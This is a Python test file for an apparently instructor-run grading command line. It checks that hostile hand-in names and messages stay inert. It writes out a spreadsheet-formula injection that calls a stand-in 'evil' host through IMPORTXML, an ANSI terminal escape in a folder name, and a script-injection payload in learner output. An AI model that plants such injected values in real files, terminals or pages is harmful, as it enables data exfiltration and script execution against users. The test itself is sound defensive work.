"""Hostile hand-in names and messages through the real command line, as an instructor runs it.

`nnlab grade` on a class holding a zip named like a spreadsheet formula, a folder whose name
holds an ANSI escape, and a learner whose code raises the forging payload: the terminal (80
columns) shows no control character, grades.csv parses with the csv module and no cell starts
a formula, junit.xml parses with an XML parser, and each odd name is named as words.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile

from rich.cells import cell_len

from nnlab.reports.text import FORMULA_START
from tests.reports.test_hostile_outputs import CONTROL, PAYLOAD
from tests.support import ROOT, solution_with

FORMULA = '=IMPORTXML(CONCAT("http:","evil"),"a")'
ESCAPED = "ann\x1b[31mred"


def test_the_cli_keeps_hostile_names_and_messages_inert(tmp_path):
    klass = tmp_path / "class"
    for learner, source in (("ada", (ROOT / "solutions" / "activations.py").read_text()),
                            ("bob", solution_with("activations", (
                                f"def relu(x):\n    print({PAYLOAD!r})\n"
                                f"    raise ValueError({PAYLOAD!r})\n"))),
                            (ESCAPED, (ROOT / "solutions" / "activations.py").read_text())):
        (klass / learner).mkdir(parents=True)
        (klass / learner / "activations.py").write_text(source)
    with zipfile.ZipFile(klass / f"{FORMULA}.zip", "w") as archive:
        archive.writestr("activations.py", (ROOT / "solutions" / "activations.py").read_text())
    out = tmp_path / "out"
    env = {**os.environ, "COLUMNS": "80", "TERM": "xterm-256color"}
    env.pop("NNLAB_SECRET_SEED", None)
    done = subprocess.run([sys.executable, "-m", "nnlab.cli", "grade", str(klass), "--out",
                           str(out), "--jobs", "2", "--assignment", "a1"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    for stream in (done.stdout, done.stderr):
        assert not CONTROL.search(stream.replace("\n", "")), stream[-2000:]
    # the table fits 80 columns (the notes are lines the terminal wraps: a path is what it is)
    assert all(cell_len(line) <= 80 for line in done.stdout.splitlines()), done.stdout
    said = " ".join((done.stdout + done.stderr).split())
    assert "IMPORTXML" in said and "\\x1b[31m" in said  # both names, as words
    text = (out / "grades.csv").read_text(encoding="utf-8")
    assert not CONTROL.search(text.replace("\n", ""))
    rows = list(csv.reader(io.StringIO(text)))
    # the hand-ins named as words (refused, their formula neutralised), the others graded
    assert {row[0] for row in rows[1:]} == {"ada", "bob", "'" + FORMULA, "ann\\x1b[31mred"}
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)
    suites = [s.get("name") for s in ET.parse(out / "junit.xml").getroot().iter("testsuite")]
    assert "bob" in suites
    failures = [f.text for f in ET.parse(out / "junit.xml").getroot().iter("failure")]
    assert any("<script>alert(1)</script>" in (f or "") for f in failures)
